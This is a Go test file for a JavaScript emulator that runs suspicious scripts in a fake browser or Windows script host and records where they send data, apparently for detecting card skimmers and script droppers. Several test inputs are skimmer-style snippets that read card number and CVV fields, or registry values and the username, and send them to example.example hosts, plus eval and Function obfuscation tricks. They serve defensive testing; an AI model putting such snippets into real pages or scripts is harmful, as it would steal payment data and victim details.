package emulate

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

// want is an event the run must record (Profile ignored).
type want struct {
	sink, value string
	depth       int
	code        bool
}

func checkEvents(t *testing.T, name string, res *Result, wants []want) {
	t.Helper()
	for _, w := range wants {
		found := false
		for _, e := range res.Events {
			if e.Sink == w.sink && e.Value == w.value && e.Depth == w.depth && e.Code == w.code {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: no event %+v; budget %+v, errors %v, events:\n%s", name, w, res.Budget, res.Errors, dumpDepth(res.Events))
		}
	}
}

func dumpDepth(evs []Event) string {
	s := ""
	for _, e := range evs {
		s += "\t" + e.Profile + " " + e.Sink + " " + e.Value + " depth=" + string(rune('0'+e.Depth))
		if e.Code {
			s += " code"
		}
		s += "\n"
	}
	return s
}

func TestEval(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		src   string
		wants []want
	}{
		{"direct eval keeps the scope", `function f() { var a = "x"; return eval("a"); } fetch("https://e.example/" + f());`,
			[]want{{"fetch", "https://e.example/x", 0, false}, {"eval", "a", 0, true}}},
		{"nested direct eval keeps the scope", `function f() { var a = "y"; return eval("eval('a')"); } fetch("https://e.example/" + f());`,
			[]want{{"fetch", "https://e.example/y", 0, false}, {"eval", "a", 1, true}}},
		{"direct eval declares in the function", `function f() { eval("var b = 'z'"); return b; } fetch("https://e.example/" + f());`,
			[]want{{"fetch", "https://e.example/z", 0, false}}},
		{"indirect eval is global", `var e = eval; function f() { var a = "local"; return e("typeof a"); } fetch("https://e.example/" + f());`,
			[]want{{"fetch", "https://e.example/undefined", 0, false}, {"eval", "typeof a", 0, true}}},
		{"eval through a computed member", `this["ev" + "al"]("fetch('https://bracket.example/')");`,
			[]want{{"eval", "fetch('https://bracket.example/')", 0, true}, {"fetch", "https://bracket.example/", 1, false}}},
		{"eval looks native", `fetch("https://t.example/" + typeof eval + "/" + /\[native code\]/.test(eval.toString()) + "/" + /\[native code\]/.test(document.createElement.toString()) + "/" + eval.name + eval.length + Function.name + "/" + (Function.prototype.constructor === Function) + ((function () {}) instanceof Function));`,
			[]want{{"fetch", "https://t.example/function/true/true/eval1Function/truetrue", 0, false}}},
		{"a script that hooks eval", `var seen = ""; window.eval = function (s) { seen = s; }; eval("1 + 1"); fetch("https://hooked.example/?" + seen);`,
			[]want{{"fetch", "https://hooked.example/?1 + 1", 0, false}}},
		{"Function", `fetch(Function("return 'https://fn.example/x'")());`,
			[]want{{"Function", "return 'https://fn.example/x'", 0, true}, {"fetch", "https://fn.example/x", 0, false}}},
		{"new Function", `fetch(new Function("return 'https://newfn.example/x'")());`,
			[]want{{"Function", "return 'https://newfn.example/x'", 0, true}, {"fetch", "https://newfn.example/x", 0, false}}},
		{"Function through a constructor", `(function () {}).constructor("a", "fetch('https://ctor.example/' + a)")("q");`,
			[]want{{"Function", "fetch('https://ctor.example/' + a)", 0, true}, {"fetch", "https://ctor.example/q", 1, false}}},
		{"direct eval inside Function keeps the scope", `fetch("https://e.example/" + Function("var a = 'q'; return eval('a')")());`,
			[]want{{"fetch", "https://e.example/q", 0, false}, {"eval", "a", 1, true}}},
		{"depth", `eval("eval(\"fetch('https://deep.example/')\")");`,
			[]want{{"eval", `eval("fetch('https://deep.example/')")`, 0, true}, {"eval", "fetch('https://deep.example/')", 1, true}, {"fetch", "https://deep.example/", 2, false}}},
		{"self-replicating eval is bounded", `var s = "eval(s)"; eval(s); fetch("https://after.example/");`,
			[]want{{"fetch", "https://after.example/", 0, false}}},
		{"setTimeout with a string", `setTimeout("fetch('https://timer.example/')", 100);`,
			[]want{{"setTimeout", "fetch('https://timer.example/')", 0, true}, {"fetch", "https://timer.example/", 1, false}}},
		{"document.write runs its scripts", `document.write("<script>fetch('https://dw.example/')<\/script><img src='https://img.example/1.gif'>");`,
			[]want{{"document.write", "<script>fetch('https://dw.example/')</script><img src='https://img.example/1.gif'>", 0, true}, {"document.write", "https://img.example/1.gif", 0, false}, {"fetch", "https://dw.example/", 1, false}}},
		{"eval of a non-string", `fetch("https://e.example/" + eval(42));`,
			[]want{{"fetch", "https://e.example/42", 0, false}}},
		{"HTML comment lines in eval'd code", `eval("<!--\nfetch('https://comment.example/')\n-->");`,
			[]want{{"fetch", "https://comment.example/", 1, false}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			res := run(t, tt.src, Options{Profiles: []string{profileBrowser}})
			if res.Budget != nil {
				t.Errorf("Run(%q).Budget = %+v, want nil", tt.src, res.Budget)
			}
			checkEvents(t, tt.name, res, tt.wants)
		})
	}
}

// The fake world answers the way skimmers expect before they act.
func TestWorld(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		src     string
		profile string
		wants   []want
	}{
		{"checkout page", `fetch("https://w.example/?" + [location.href, location.hostname, document.domain, navigator.userAgent.indexOf("Chrome") > 0, typeof require, typeof process, typeof module, typeof WScript].join("|"));`, profileBrowser,
			[]want{{"fetch", "https://w.example/?https://shop.example.com/checkout/onepage/|shop.example.com|shop.example.com|true|undefined|undefined|undefined|undefined", 0, false}}},
		{"card field passes Luhn", `var n = document.getElementById("cc_number").value, s = 0;
			for (var i = 0; i < n.length; i++) { var d = +n[n.length - 1 - i]; if (i % 2) { d *= 2; if (d > 9) d -= 9; } s += d; }
			fetch("https://w.example/?" + (n.length >= 15 && s % 10 === 0) + "|" + document.querySelector("input[name='payment[cc_cid]']").value + "|" + document.forms[0].elements.length);`, profileBrowser,
			[]want{{"fetch", "https://w.example/?true|737|14", 0, false}}},
		{"a field the page lacks", `fetch("https://w.example/?" + document.getElementById("authorizenet_directpost_cc_number").value);`, profileBrowser,
			[]want{{"fetch", "https://w.example/?" + pageCard, 0, false}}},
		{"unknown members are undefined", `fetch("https://w.example/?" + typeof document.fooBar + typeof window.zzz + typeof navigator.qq);`, profileBrowser,
			[]want{{"fetch", "https://w.example/?undefinedundefinedundefined", 0, false}}},
		{"handlers fire", `window.onload = function () { fetch("https://onload.example/"); };
			document.addEventListener("DOMContentLoaded", function () { fetch("https://ready.example/"); });
			document.querySelector("#place-order").onclick = function () { fetch("https://click.example/"); };
			$(document).on("submit", "form", function () { $.post("https://jq-post.example/", $("form").serialize()); });
			$(function () { $.ajax({url: "https://jq-ajax.example/", type: "POST"}); });
			var x = new XMLHttpRequest(); x.onreadystatechange = function () { if (x.readyState === 4) new Image().src = "https://xhr-done.example/"; }; x.open("GET", "/x"); x.send();`, profileBrowser,
			[]want{{"fetch", "https://onload.example/", 0, false}, {"fetch", "https://ready.example/", 0, false}, {"fetch", "https://click.example/", 0, false},
				{"jQuery.post", "https://jq-post.example/", 0, false}, {"jQuery.ajax", "https://jq-ajax.example/", 0, false}, {"Image.src", "https://xhr-done.example/", 0, false}}},
		{"sinks", `var s = document.createElement("script"); s.src = "https://s.example/a.js"; document.body.appendChild(s);
			var l = document.createElement("link"); l.setAttribute("href", "https://l.example/a.css");
			var f = document.createElement("form"); f.action = "https://f.example/post"; f.submit();
			navigator.sendBeacon("https://b.example/"); new WebSocket("wss://ws.example/"); new EventSource("https://es.example/");
			document.body.innerHTML += '<iframe src="https://if.example/"></iframe>';`, profileBrowser,
			[]want{{"script.src", "https://s.example/a.js", 0, false}, {"link.href", "https://l.example/a.css", 0, false}, {"form.action", "https://f.example/post", 0, false},
				{"sendBeacon", "https://b.example/", 0, false}, {"WebSocket", "wss://ws.example/", 0, false}, {"EventSource", "https://es.example/", 0, false},
				{"innerHTML", "https://if.example/", 0, false}}},
		{"fixed clock and storage", `localStorage.setItem("k", "v"); fetch("https://w.example/?" + new Date().toISOString() + "|" + Date.now() + "|" + localStorage.getItem("k") + "|" + sessionStorage.getItem("k") + "|" + atob(btoa("ab")));`, profileBrowser,
			[]want{{"fetch", "https://w.example/?2026-06-15T10:30:00.000Z|1781519400000|v|null|ab", 0, false}}},
		{"timers advance the clock", `var t0 = Date.now(); setTimeout(function () { fetch("https://w.example/?" + (Date.now() - t0)); }, 5000);`, profileBrowser,
			[]want{{"fetch", "https://w.example/?5000", 0, false}}},
		{"script host", `var sh = WScript.CreateObject("wscript.shell"), fso = new ActiveXObject("SCRIPTING.FileSystemObject");
			var x = new ActiveXObject("WinHttp.WinHttpRequest.5.1");
			x.OPEN("GET", "https://wsh.example/?" + [typeof document, typeof window, WScript.ScriptName, sh.regread("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProductName"), sh.Environment("Process")("username"), fso.GetSpecialFolder(2).Path, typeof x.nosuch].join("|"));`, profileWSH,
			[]want{{"WinHttpRequest.open", "https://wsh.example/?undefined|undefined|invoice_0412.js|Windows 10 Pro|jdoe|C:\\Users\\jdoe\\AppData\\Local\\Temp|undefined", 0, false}}},
		{"script host quits", `new ActiveXObject("MSXML2.XMLHTTP").open("GET", "https://before-quit.example/"); try { WScript.Quit(1); } catch (e) {} new ActiveXObject("MSXML2.XMLHTTP").open("GET", "https://after-quit.example/");`, profileWSH,
			[]want{{"MSXML2.XMLHTTP.open", "https://before-quit.example/", 0, false}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			res := run(t, tt.src, Options{Profiles: []string{tt.profile}})
			if res.Budget != nil {
				t.Errorf("Run(%s).Budget = %+v, want nil", tt.name, res.Budget)
			}
			checkEvents(t, tt.name, res, tt.wants)
			for _, e := range res.Events {
				if e.Value == "https://after-quit.example/" {
					t.Errorf("Run(%s) went on after WScript.Quit", tt.name)
				}
			}
		})
	}
}

// A script that does not compile runs under no profile, once.
func TestSyntaxError(t *testing.T) {
	t.Parallel()
	res := run(t, "fetch('https://a.example/'); var = ;", Options{})
	if res.Budget != nil || len(res.Profiles) != 0 || len(res.Errors) != 1 || len(res.Events) != 0 {
		t.Errorf("Run(syntax error) = budget %+v, profiles %v, errors %v, events %v; want one error and nothing else", res.Budget, res.Profiles, res.Errors, res.Events)
	}
}

// A run is deterministic: the same script gives the same events.
func TestDeterministic(t *testing.T) {
	t.Parallel()
	src := `var id = Math.random().toString(36).slice(2) + Date.now() + crypto.getRandomValues(new Uint8Array(4)).join("");
		new Image().src = "https://rnd.example/?" + id;`
	a := run(t, src, Options{})
	b := run(t, src, Options{})
	if len(a.Events) == 0 {
		t.Fatalf("Run(%q) recorded nothing", src)
	}
	if diff := cmp.Diff(a.Events, b.Events); diff != "" {
		t.Errorf("two runs of %q differ (-first +second):\n%s", src, diff)
	}
}
